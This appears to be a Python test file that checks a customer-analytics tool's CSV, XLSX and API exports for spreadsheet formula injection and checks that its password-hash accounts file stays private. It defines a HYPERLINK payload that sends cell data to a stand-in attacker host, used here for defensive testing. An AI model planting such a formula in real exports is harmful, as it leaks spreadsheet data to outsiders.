"""Issue #17 (security and privacy), the findings fixed so far, each written as the attack.

Finding 2: values from logs and imports reach every CSV/XLSX download and CLI export; a
tracking parameter such as `=HYPERLINK(…)` must open in a spreadsheet as text.
Finding 7: the accounts file must stay 0600."""

import csv
import io
import json
import os
import subprocess
import sys

from openpyxl import load_workbook

from custlens.output import csv_bytes, neutralise

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _cl(cwd, *args):
    env = {**os.environ, "CUSTLENS_QUIET": "1"}
    proc = subprocess.run([sys.executable, "-m", "custlens.cli", *args], cwd=cwd, env=env,
                          capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    return proc


def test_neutralise_only_what_a_spreadsheet_would_run():
    for bad in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(bad) == "'" + bad
    for fine in ("abc", "12", "a=b", "", "重要价值客户"):
        assert neutralise(fine) == fine


def test_cli_csv_and_xlsx_exports_carry_no_live_formula(tmp_path):
    (tmp_path / "events.csv").write_text(
        "user_id,item_id,category_id,behavior,ts,channel\n"
        f'u1,i1,c1,pv,2025-01-01 10:00:00,"{EVIL.replace(chr(34), chr(34) * 2)}"\n'
        "u1,i1,c1,buy,2025-01-01 10:05:00,organic\n", encoding="utf-8")
    _cl(tmp_path, "import", "events", "events.csv")
    query = "SELECT DISTINCT channel FROM dwd_events ORDER BY channel"
    rows = list(csv.reader(io.StringIO(_cl(tmp_path, "sql", query, "--format", "csv").stdout)))
    assert ["'" + EVIL] in rows and [EVIL] not in rows
    raw = list(csv.reader(io.StringIO(_cl(tmp_path, "--raw", "sql", query, "--format", "csv").stdout)))
    assert [EVIL] in raw  # --raw: untouched, for pipelines
    _cl(tmp_path, "sql", query, "--format", "xlsx", "--out", "c.xlsx")
    sheet = load_workbook(tmp_path / "c.xlsx").active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    evil = [c for c in cells if c.value == EVIL]
    assert evil and all(c.data_type == "s" for c in cells)  # text, never a formula
    # the importer reads our neutralised CSV back to the original value
    _cl(tmp_path, "sql", "SELECT user_id, item_id, category_id, behavior, ts, channel FROM dwd_events",
        "--format", "csv", "--out", "again.csv")
    _cl(tmp_path, "--lake", "lake2", "import", "events", "again.csv")
    back = json.loads(_cl(tmp_path, "--lake", "lake2", "sql", query, "--format", "json").stdout)
    assert {r["channel"] for r in back} == {EVIL, "organic"}


def test_the_api_downloads_use_the_same_writer():
    import pyarrow as pa

    table = pa.table({"channel": [EVIL, "ok"], "n": [1, 2]})
    data = csv_bytes(table).decode()
    assert "'=HYPERLINK" in data and "\n" + EVIL not in data


def test_users_file_stays_private_after_a_removal(tmp_path):
    """Issue #17, finding 7: `users.json` (password hashes) became world-readable after
    `custlens users remove`."""
    from custlens.hub.lake import Lake
    from custlens.serve.auth import Accounts

    accounts = Accounts(Lake(tmp_path / "lake"))
    accounts.add("ana", "analyst", "a long enough password")
    accounts.add("bo", "operator", "another long password")
    accounts.remove("bo")
    assert (accounts.path.stat().st_mode & 0o777) == 0o600
